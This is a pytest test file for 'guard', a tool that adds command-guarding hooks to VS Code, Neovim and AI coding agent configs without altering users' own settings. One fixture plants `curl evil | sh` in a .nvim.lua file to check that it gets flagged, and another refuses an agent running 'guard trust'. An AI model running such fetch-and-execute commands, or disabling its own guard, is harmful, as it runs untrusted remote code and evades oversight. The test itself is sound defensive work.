"""`guard editor vscode|nvim` and `guard agent claude|codex|gemini` on repositories that
already hold the user's own configuration: it survives byte for byte, a second run changes
nothing, `--check` reports drift with a diff and exit 1."""

import difflib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import tomlkit

from guard.cli import main as guard_main
from guard.integrations.agent_hooks import HOOK_COMMAND
from guard.integrations.jsonc import parse
from guard.integrations.jsonc_edit import JsoncDocument
from guard.integrations.vscode import guard_label

USER_TASKS = """\
{
\t// Build with my own script; do not touch.
\t"version": "2.0.0",
\t"tasks": [
\t\t{
\t\t\t"label": "watch",
\t\t\t"type": "shell",
\t\t\t"command": "npm run watch", /* keep me */
\t\t},
\t\t{
\t\t\t"label": "bootstrap",
\t\t\t"type": "shell",
\t\t\t"command": "./scripts/bootstrap.sh",
\t\t\t"runOptions": { "runOn": "folderOpen" },
\t\t},
\t],
}
"""
USER_SETTINGS = """\
// workspace settings
{
    "editor.tabSize": 4, // I like 4
    "files.exclude": { "**/.cache": true }
}
"""
USER_CLAUDE = """\
{
  "permissions": {
    "allow": ["Bash(npm test:*)"],
    "deny": ["Read(./.env)"]
  },
  "hooks": {
    "PreToolUse": [
      {
        "matcher": "Bash",
        "hooks": [{"type": "command", "command": "./scripts/log-command.sh"}]
      }
    ],
    "PostToolUse": [
      {"matcher": "Edit", "hooks": [{"type": "command", "command": "npx prettier --write"}]}
    ]
  }
}
"""
USER_CODEX = """\
# Team defaults for Codex
model = "gpt-5-codex"  # pinned
approval_policy = "on-request"

[features]
web_search = true

[profiles.review]
sandbox_mode = "read-only"
"""
USER_GEMINI = """\
{
  // team settings
  "general": {"vimMode": true},
  "hooks": {
    "BeforeTool": [
      {"matcher": "write_file", "hooks": [{"name": "lint", "type": "command", "command": "./lint.sh"}]}
    ]
  }
}
"""


@pytest.fixture
def repo(tmp_path, monkeypatch):
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "package.json").write_text(json.dumps({"scripts": {"test": "jest", "build": "tsc"}}))
    (tmp_path / "Makefile").write_text("all: build\nbuild:\n\ttrue\ntest:\n\ttrue\nX := 1\n")
    (tmp_path / ".vscode").mkdir()
    (tmp_path / ".vscode" / "tasks.json").write_text(USER_TASKS)
    (tmp_path / ".vscode" / "settings.json").write_text(USER_SETTINGS)
    for folder, name, text in ((".claude", "settings.json", USER_CLAUDE), (".codex", "config.toml", USER_CODEX),
                               (".gemini", "settings.json", USER_GEMINI)):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / name).write_text(text)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def guard(*argv, capsys):
    status = guard_main(list(argv))
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def snapshot(root: Path) -> dict:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and ".git/" not in p.as_posix() + "/" and not p.relative_to(root).parts[0] == ".git"}


def assert_only_additions(old: str, new: str) -> None:
    """Every line of the user's file is still there, in order; at most a ',' was appended
    to the line before an insertion."""
    a, b = old.splitlines(), new.splitlines()
    for op, i1, i2, j1, j2 in difflib.SequenceMatcher(a=a, b=b, autojunk=False).get_opcodes():
        if op == "delete":
            raise AssertionError(f"user lines removed: {a[i1:i2]}")
        if op == "replace":
            for k, line in enumerate(a[i1:i2]):
                assert b[j1 + k] == line + ",", f"user line changed: {line!r} -> {b[j1 + k]!r}"


AGENT_FILES = {"claude": ".claude/settings.json", "codex": ".codex/config.toml", "gemini": ".gemini/settings.json"}
USER_TEXT = {".claude/settings.json": USER_CLAUDE, ".codex/config.toml": USER_CODEX,
             ".gemini/settings.json": USER_GEMINI, ".vscode/tasks.json": USER_TASKS,
             ".vscode/settings.json": USER_SETTINGS}


@pytest.mark.parametrize("kind, name, files", [
    ("editor", "vscode", [".vscode/tasks.json", ".vscode/settings.json"]),
    ("agent", "claude", [".claude/settings.json"]),
    ("agent", "codex", [".codex/config.toml"]),
    ("agent", "gemini", [".gemini/settings.json"]),
])
def test_user_content_survives_and_a_second_run_changes_nothing(repo, capsys, kind, name, files):
    status, _, err = guard(kind, name, capsys=capsys)
    assert status == 0, err
    for rel in files:
        assert_only_additions(USER_TEXT[rel], (repo / rel).read_text())
    first = snapshot(repo)
    status, _, err = guard(kind, name, capsys=capsys)
    assert status == 0 and snapshot(repo) == first
    assert all(f"{rel} is up to date" in err for rel in files), err
    assert guard(kind, name, "--check", capsys=capsys)[0] == 0


@pytest.mark.parametrize("kind, name, rel", [
    ("editor", "vscode", ".vscode/tasks.json"),
    ("agent", "claude", ".claude/settings.json"),
    ("agent", "codex", ".codex/config.toml"),
    ("agent", "gemini", ".gemini/settings.json"),
])
def test_check_reports_drift_with_a_diff_and_changes_nothing(repo, capsys, kind, name, rel):
    before = snapshot(repo)
    status, out, err = guard(kind, name, "--check", capsys=capsys)
    assert status == 1 and f"--- a/{rel}" in out and f"+++ b/{rel}" in out
    assert snapshot(repo) == before
    guard(kind, name, capsys=capsys)
    # someone edits guard's entry by hand: --check notices
    path = repo / rel
    path.write_text(path.read_text().replace("claude-pretool", "claude-pretool-off").replace(
        '"run", "--", "npm"', '"run", "--", "sh", "-c", "npm"'))
    status, out, _ = guard(kind, name, "--check", capsys=capsys)
    assert status == 1 and out.count("\n-") >= 1


def test_vscode_tasks_run_guard_as_a_process_and_are_tagged(repo, capsys):
    guard("editor", "vscode", capsys=capsys)
    tasks = parse((repo / ".vscode/tasks.json").read_text(), "tasks.json").to_python()["tasks"]
    ours = [t for t in tasks if guard_label(t)]
    assert {t["label"] for t in ours} == {"guard: npm run test", "guard: npm run build", "guard: make all",
                                          "guard: make build", "guard: make test"}
    for task in ours:
        assert task["type"] == "process" and task["command"] == "guard" and task["args"][:2] == ["run", "--"]
    assert [t["label"] for t in tasks if not guard_label(t)] == ["watch", "bootstrap"]


def test_vscode_removes_only_its_own_tasks_when_they_are_no_longer_wanted(repo, capsys):
    guard("editor", "vscode", capsys=capsys)
    (repo / "package.json").unlink()
    (repo / "Makefile").unlink()
    guard("editor", "vscode", capsys=capsys)
    assert (repo / ".vscode/tasks.json").read_text() == USER_TASKS  # back to the user's bytes exactly


def test_folder_open_tasks_are_flagged_loudly_with_their_line(repo, capsys):
    status, _, err = guard("editor", "vscode", capsys=capsys)
    assert status == 0
    assert "WARNING: .vscode/tasks.json:10:3: task 'bootstrap' runs when the folder is opened" in err
    assert "'watch'" not in err


def test_list_json_prints_the_tasks_guard_knows_without_writing(repo, capsys):
    before = snapshot(repo)
    status, out, _ = guard("editor", "vscode", "--list-json", capsys=capsys)
    assert status == 0 and snapshot(repo) == before
    listed = json.loads(out)
    assert {"label": "guard: npm run test", "command": ["npm", "run", "test"]} in listed
    guard("editor", "vscode", capsys=capsys)
    # after generation it reads the tagged tasks back from tasks.json, hand edits included
    path = repo / ".vscode/tasks.json"
    path.write_text(path.read_text().replace('"npm", "run", "test"]', '"npm", "run", "test", "--ci"]'))
    listed = json.loads(guard("editor", "vscode", "--list-json", capsys=capsys)[1])
    assert {"label": "guard: npm run test", "command": ["npm", "run", "test", "--ci"]} in listed
    assert all(isinstance(e["label"], str) and e["command"] and all(isinstance(a, str) for a in e["command"])
               for e in listed)


def test_vscode_profile_is_a_guarded_shell_in_settings(repo, capsys):
    guard("editor", "vscode", capsys=capsys)
    settings = parse((repo / ".vscode/settings.json").read_text(), "settings.json").to_python()
    assert settings["editor.tabSize"] == 4
    profile = settings["terminal.integrated.profiles.linux"]["guarded shell"]
    assert profile["path"] == "guard" and profile["args"][:2] == ["run", "--"]


def test_a_broken_user_file_is_refused_with_its_position_and_left_alone(repo, capsys):
    broken = '{\n  "version": "2.0.0",\n  "tasks": [ { "label": "x" } \n  "oops": 1\n}\n'
    (repo / ".vscode/tasks.json").write_text(broken)
    status, _, err = guard("editor", "vscode", capsys=capsys)
    assert status == 2 and ".vscode/tasks.json:4:3: expected ',' or ']'" in err
    assert (repo / ".vscode/tasks.json").read_text() == broken


def test_a_symlinked_config_folder_is_never_written_through(repo, capsys, tmp_path_factory):
    elsewhere = tmp_path_factory.mktemp("home-claude")
    shutil.rmtree(repo / ".claude")
    (repo / ".claude").symlink_to(elsewhere)
    status, _, err = guard("agent", "claude", capsys=capsys)
    assert status == 2 and "symlink" in err and list(elsewhere.iterdir()) == []


def test_crlf_files_stay_crlf(repo, capsys):
    (repo / ".vscode/settings.json").write_bytes(USER_SETTINGS.replace("\n", "\r\n").encode())
    guard("editor", "vscode", capsys=capsys)
    data = (repo / ".vscode/settings.json").read_bytes()
    assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b"")


def test_claude_hooks_are_added_beside_the_users_own(repo, capsys):
    guard("agent", "claude", capsys=capsys)
    settings = json.loads((repo / ".claude/settings.json").read_text())  # still strict JSON
    groups = settings["hooks"]["PreToolUse"]
    assert groups[0]["hooks"][0]["command"] == "./scripts/log-command.sh"
    ours = {g["matcher"]: g["hooks"] for g in groups[1:]}
    assert set(ours) == {"Bash|PowerShell", "Edit|Write|MultiEdit|NotebookEdit"}
    assert all(h == [{"type": "command", "command": HOOK_COMMAND}] for h in ours.values())
    assert settings["permissions"]["deny"] == ["Read(./.env)"]


def test_a_setting_that_switches_hooks_off_is_an_error_not_silently_flipped(repo, capsys):
    (repo / ".claude/settings.json").write_text('{\n  "disableAllHooks": true\n}\n')
    status, _, err = guard("agent", "claude", capsys=capsys)
    assert status == 2 and ".claude/settings.json:2:22: \"disableAllHooks\": true" in err
    (repo / ".codex/config.toml").write_text("[features]\nhooks = false\n")
    assert guard("agent", "codex", capsys=capsys)[0] == 2
    (repo / ".gemini/settings.json").write_text('{"hooksConfig": {"disabled": ["guard"]}}')
    status, _, err = guard("agent", "gemini", capsys=capsys)
    assert status == 2 and "hooksConfig.disabled" in err


def test_codex_config_keeps_comments_and_turns_hooks_on(repo, capsys):
    guard("agent", "codex", capsys=capsys)
    text = (repo / ".codex/config.toml").read_text()
    assert "# Team defaults for Codex" in text and 'model = "gpt-5-codex"  # pinned' in text
    config = tomlkit.parse(text).unwrap()
    assert config["features"] == {"web_search": True, "hooks": True}
    assert config["hooks"]["PreToolUse"] == [{"matcher": "Bash|apply_patch",
                                              "hooks": [{"type": "command", "command": HOOK_COMMAND}]}]
    assert config["profiles"]["review"]["sandbox_mode"] == "read-only"


def test_codex_hooks_go_into_hooks_json_when_the_repository_uses_one(repo, capsys):
    (repo / ".codex/hooks.json").write_text('{"hooks": {"Stop": []}}\n')
    guard("agent", "codex", capsys=capsys)
    hooks = json.loads((repo / ".codex/hooks.json").read_text())["hooks"]
    assert hooks["Stop"] == [] and hooks["PreToolUse"][0]["hooks"][0]["command"] == HOOK_COMMAND
    config = tomlkit.parse((repo / ".codex/config.toml").read_text()).unwrap()
    assert config["features"]["hooks"] is True and "PreToolUse" not in config.get("hooks", {})


def test_new_files_are_created_when_the_repository_has_none(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sandbox.toml").write_text("version = 1\n")
    for kind, name in (("editor", "vscode"), ("agent", "claude"), ("agent", "codex"), ("agent", "gemini")):
        assert guard(kind, name, capsys=capsys)[0] == 0
        assert guard(kind, name, "--check", capsys=capsys)[0] == 0
    assert json.loads((tmp_path / ".claude/settings.json").read_text())["hooks"]["PreToolUse"]


def test_nvim_writes_nothing_and_flags_exrc_files(repo, capsys):
    (repo / ".nvim.lua").write_text("os.execute('curl evil | sh')\n")
    before = snapshot(repo)
    status, _, err = guard("editor", "nvim", capsys=capsys)
    assert status == 0 and snapshot(repo) == before
    assert "WARNING: .nvim.lua" in err and ":checkhealth guard" in err


def test_unknown_names_and_misplaced_options_are_usage_errors(repo, capsys):
    status, _, err = guard("agent", "cursor", capsys=capsys)
    assert status == 2 and "available: claude, codex, gemini" in err
    assert guard("editor", "nvim", "--list-json", capsys=capsys)[0] == 2


def test_the_generated_hook_command_blocks_when_guard_is_missing(tmp_path):
    """The agents run the hook through a shell and only exit 2 blocks: `|| exit 2` turns
    "guard: not found" into a refusal instead of an unguarded command."""
    result = subprocess.run([shutil.which("sh"), "-c", HOOK_COMMAND], input="{}", capture_output=True, text=True,
                            env={"PATH": str(tmp_path)})
    assert result.returncode == 2 and result.stderr


def test_the_installed_hook_command_answers_a_recorded_event_end_to_end(tmp_path):
    """The real `guard` executable, reached through the exact command string written into
    the agents' configuration."""
    bindir = Path(sys.executable).parent
    if not (bindir / "guard").exists():
        pytest.skip("the guard console script is not installed next to this python")
    fixture = (Path(__file__).parent / "fixtures/claude/bash_plain.json").read_text()
    event = fixture.replace("/home/dev/project", str(tmp_path))
    env = {**os.environ, "PATH": f"{bindir}:{os.environ.get('PATH', '')}"}
    result = subprocess.run(["sh", "-c", HOOK_COMMAND], input=event, capture_output=True, text=True,
                            env=env, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    command = json.loads(result.stdout)["hookSpecificOutput"]["updatedInput"]["command"]
    assert command.endswith("run -- bash -c 'npm test'")
    refused = subprocess.run(["sh", "-c", HOOK_COMMAND], input=event.replace("npm test", "guard trust"),
                             capture_output=True, text=True, env=env, cwd=tmp_path)
    assert refused.returncode == 2 and "guard trust" in refused.stderr


def test_jsonc_document_round_trips_without_edits():
    for text in (USER_TASKS, USER_SETTINGS, USER_GEMINI, "{}", "// only\n{\n}\n"):
        assert JsoncDocument(text, "x.json").text == text


@pytest.mark.parametrize("text", [
    '{"hooks": {"Stop": []}}\n',
    '{"hooks": {"Stop": [1, 2]}}',
    '{\n  "hooks": {"PreToolUse": [{"matcher": "x", "hooks": []}]}\n}\n',
    '{"a": 1, /* c */ "hooks": {}, // tail\n}',
])
def test_jsonc_edits_of_one_line_containers_stay_valid_and_stable(text):
    doc = JsoncDocument(text, "x.json")
    doc.ensure(("hooks", "PreToolUse"), "array", [])
    group = {"matcher": "Bash", "hooks": [{"type": "command", "command": HOOK_COMMAND}]}
    key = lambda g: g.get("matcher") if isinstance(g, dict) and g.get("hooks") and g["hooks"][0].get("command") == HOOK_COMMAND else None  # noqa: E731
    doc.sync_items(("hooks", "PreToolUse"), [("Bash", group)], key)
    value = parse(doc.text, "x.json").to_python()
    assert group in value["hooks"]["PreToolUse"]
    again = JsoncDocument(doc.text, "x.json")
    again.ensure(("hooks", "PreToolUse"), "array", [])
    again.sync_items(("hooks", "PreToolUse"), [("Bash", group)], key)
    assert again.text == doc.text
    again.sync_items(("hooks", "PreToolUse"), [], key)
    assert parse(again.text, "x.json").to_python()["hooks"]["PreToolUse"] == value["hooks"]["PreToolUse"][:-1]
